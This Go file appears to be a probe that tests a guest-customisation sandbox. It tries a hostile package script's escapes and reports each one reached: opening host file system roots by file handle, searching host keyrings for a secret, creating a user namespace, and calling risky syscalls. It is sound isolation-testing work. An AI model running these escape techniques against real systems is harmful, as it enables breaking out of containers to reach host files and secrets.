// Attack is what a hostile package's script could try from inside of a guest that is being customised. It prints a line
// "REACHED: …" for whatever it gets. Its arguments are paths that lie on file systems of the host's.
package main

import (
	"encoding/binary"
	"fmt"
	"os"
	"os/exec"
	"syscall"
	"unsafe"
)

func reached(format string, args ...any) { fmt.Printf("REACHED: "+format+"\n", args...) }

// handle is struct file_handle of open_by_handle_at(2) for an inode of ext4 or xfs of any generation.
type handle struct {
	bytes, kind uint32
	id          [8]byte
}

// byHandle opens the root of the file system that a visible file is on, and with it everything there.
func byHandle(path string) {
	for _, inode := range []uint32{2, 128, 256} { // of ext4, xfs, btrfs
		from, err := syscall.Open(path, syscall.O_RDONLY, 0)
		if err != nil {
			return
		}
		h := handle{bytes: 8, kind: 1}
		binary.NativeEndian.PutUint32(h.id[:], inode)
		fd, _, no := syscall.Syscall(openByHandleAt, uintptr(from), uintptr(unsafe.Pointer(&h)), syscall.O_RDONLY|syscall.O_DIRECTORY)
		_ = syscall.Close(from)
		if no != 0 {
			continue
		}
		list, _ := os.NewFile(fd, "root").Readdirnames(5)
		reached("the file system of %s, by a handle: %v", path, list)
		return
	}
}

func main() {
	for _, path := range os.Args[1:] {
		byHandle(path)
	}
	const userKeyring, searchKey = ^uintptr(3), 10 // KEY_SPEC_USER_KEYRING, KEYCTL_SEARCH
	kind, name := [...]byte{'u', 's', 'e', 'r', 0}, append([]byte(os.Getenv("SECRET")), 0)
	for _, ring := range []uintptr{userKeyring, ^uintptr(2)} { // and of the session
		if id, _, no := syscall.Syscall6(keyctl, searchKey, ring, uintptr(unsafe.Pointer(&kind[0])), uintptr(unsafe.Pointer(&name[0])), 0, 0); no == 0 {
			reached("a key of the host's: %d", id)
		}
	}
	// A namespace of users gives every right in it: a large part of the kernel to attack.
	own := exec.Command("/bin/true")
	own.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER}
	if err := own.Start(); err == nil {
		reached("a user namespace of its own")
		_ = own.Wait()
	}
	for name, call := range map[string][4]uintptr{
		"bpf":             {bpf, 0, 0, 0},
		"perf_event_open": {perfEventOpen, 0, 0, 0},
		"userfaultfd":     {userfaultfd, 0},
		"io_uring_setup":  {ioUringSetup, 0, 0},
	} {
		// Those that are there say that the arguments are wrong.
		if _, _, no := syscall.Syscall6(call[0], call[1], call[2], call[3], 0, 0, 0); no != syscall.ENOSYS && no != syscall.EPERM {
			reached("%s: %v", name, no)
		}
	}
}
